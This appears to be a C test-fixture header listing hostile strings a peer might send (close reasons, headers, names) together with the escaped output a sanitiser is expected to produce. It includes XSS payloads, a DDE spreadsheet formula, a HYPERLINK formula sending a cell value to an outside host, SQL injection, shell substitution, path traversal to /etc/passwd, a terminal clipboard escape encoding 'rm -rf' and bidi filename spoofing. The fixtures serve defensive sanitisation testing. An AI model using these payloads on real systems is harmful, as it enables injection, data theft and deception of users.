/* SPDX-License-Identifier: GPL-3.0-or-later */
#pragma once

#include <glib.h>

/* What a peer may write into a reason, a header or a name: bytes that would act in a terminal, a
 * label, a spreadsheet, a browser, a shell or a query, if they were let through. */
typedef struct
{
  const char *name;
  const char *text;
  const char *line;             /* what fecho_safe_text_line() makes of it; NULL: the text itself */
} HostileText;

#define RIGHT_TO_LEFT_OVERRIDE "\342\200\256"
#define POP_DIRECTIONAL        "\342\200\254"
#define REPLACEMENT            "\357\277\275"
#define FOUR_BYTES             "\360\237\222\245"
#define FOUR_BYTES_10          FOUR_BYTES FOUR_BYTES FOUR_BYTES FOUR_BYTES FOUR_BYTES \
                               FOUR_BYTES FOUR_BYTES FOUR_BYTES FOUR_BYTES FOUR_BYTES

static const HostileText hostile_texts[] = {
  { "nothing", "", NULL },
  { "blank", " ", NULL },
  { "plain", "server restart in 5 s", NULL },
  { "Portuguese", "conexão não autorizada", NULL },
  { "Chinese", "连接超时", NULL },
  { "Arabic", "انتهت الجلسة", NULL },
  { "combining marks", "Z\314\266a\314\267l\314\270g\314\265o", NULL },
  { "astral", FOUR_BYTES, NULL },
  { "123 bytes of four-byte characters", FOUR_BYTES_10 FOUR_BYTES_10 FOUR_BYTES_10 "abc", NULL },
  /* Markup and HTML */
  { "Pango markup", "<span foreground='red'>no</span>", NULL },
  { "unclosed markup", "<b>bold", NULL },
  { "ampersand", "a & b &amp; c", NULL },
  { "script", "<script>alert(1)</script>", NULL },
  { "end of attribute", "\" onmouseover=\"alert(1)", NULL },
  { "end of attribute, single", "' onmouseover='alert(1)", NULL },
  { "end of a script element", "</script><script>alert(1)</script>", NULL },
  { "entity", "&#x3c;img src=x onerror=alert(1)&#x3e;", NULL },
  /* Spreadsheets */
  { "formula, DDE", "=cmd|' /C calc'!A0", NULL },
  { "formula, plus", "+1+1", NULL },
  { "formula, minus", "-1+1", NULL },
  { "formula, at", "@SUM(1+1)", NULL },
  { "formula after a tab", "\t=1+1", "␉=1+1" },
  { "formula after a carriage return", "\r=1+1", "␍=1+1" },
  { "formula after a semicolon", "a;=1+1", NULL },
  { "formula after a comma", "a,=1+1", NULL },
  { "formula after a quote", "\"=1+1", NULL },
  { "formula with a link", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", NULL },
  { "quotes", "he said \"no\"", NULL },
  { "only quotes", "\"\"\"", NULL },
  { "comma and line break", "a,\"b\"\r\nc", "a,\"b\"␍␊c" },
  /* Lines */
  { "line feed", "one\ntwo", "one␊two" },
  { "carriage return", "harmless\rEVIL", "harmless␍EVIL" },
  { "line separator", "one\342\200\250two", "one<U+2028>two" },
  { "paragraph separator", "one\342\200\251two", "one<U+2029>two" },
  { "next line, C1", "one\302\205two", "one<U+0085>two" },
  { "vertical tab and form feed", "a\vb\fc", "a␋b␌c" },
  /* Terminals */
  { "escape, colour", "\033[31mred\033[0m", "␛[31mred␛[0m" },
  { "escape, clear the screen", "\033[2J\033[H", "␛[2J␛[H" },
  { "escape, window title", "\033]0;owned\007", "␛]0;owned␇" },
  { "escape, clipboard", "\033]52;c;cm0gLXJm\033\\", "␛]52;c;cm0gLXJm␛\\" },
  { "CSI, C1", "\302\23331mred", "<U+009B>31mred" },
  { "backspaces", "safe\b\b\b\bEVIL", "safe␈␈␈␈EVIL" },
  { "bell and delete", "\007\177", "␇␡" },
  { "shift out", "\016abc\017", "␎abc␏" },
  { "first and last of C0", "\001\037", "␁␟" },
  /* Bidi and what cannot be seen */
  { "right-to-left override", RIGHT_TO_LEFT_OVERRIDE "gpj.exe", "<U+202E>gpj.exe" },
  { "embedding", "\342\200\252a" POP_DIRECTIONAL, "<U+202A>a<U+202C>" },
  { "isolates", "\342\201\246a\342\201\247b\342\201\250c\342\201\251",
    "<U+2066>a<U+2067>b<U+2068>c<U+2069>" },
  { "marks", "\342\200\216a\342\200\217b\330\234c", "<U+200E>a<U+200F>b<U+061C>c" },
  { "zero width", "a\342\200\213b\342\200\214c\342\200\215d\342\201\240e",
    "a<U+200B>b<U+200C>c<U+200D>d<U+2060>e" },
  { "byte order mark", "\357\273\277=1+1", "<U+FEFF>=1+1" },
  { "tag characters", "a\363\240\201\201", "a<U+E0041>" },
  { "soft hyphen", "pass\302\255word", "pass<U+00AD>word" },
  { "Hangul filler", "\343\205\244", "<U+3164>" },
  { "replacement character", "a" REPLACEMENT "b", NULL },
  /* Shells, queries, formats, paths */
  { "SQL", "'; DROP TABLE close_event; --", NULL },
  { "format", "%s%n%x%1$s", NULL },
  { "format of dates", "%Y-%m-%d {} ${HOME} $(id) `id`", NULL },
  { "path", "../../../etc/passwd", NULL },
  { "JSON", "\",\"code\":1000,\"x\":\"", NULL },
  { "JSON escapes", "\\u0000\\\"\\n\\", NULL },
  { "log line", "ok\n2026-01-01T00:00:00Z ERROR faked", "ok␊2026-01-01T00:00:00Z ERROR faked" },
};

/* Not UTF-8: never a reason (close-events.md), but a header or a file may hold it. All become
 * U+FFFD, byte by byte or sequence by sequence. */
static const char *const hostile_bytes[] = {
  "\355\240\200",               /* a high surrogate alone */
  "\355\260\200",               /* a low surrogate alone */
  "\300\257",                   /* "/" in two bytes */
  "\377\376",
  "a\200b",
  "cut \360\237\222",
  "\364\220\200\200",           /* beyond U+10FFFF */
};

/* Bidi, zero-width and other controls that no output for people may hold. */
static inline gboolean
has_acting_character (const char *text)
{
  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);

      if (c < 0x20 || (c >= 0x7f && c <= 0x9f) || c == 0x061c || c == 0x2028 || c == 0x2029 ||
          (c >= 0x200b && c <= 0x200f) || (c >= 0x202a && c <= 0x202e) || c == 0x2060 ||
          (c >= 0x2066 && c <= 0x2069) || c == 0xfeff)
        return TRUE;
    }

  return FALSE;
}
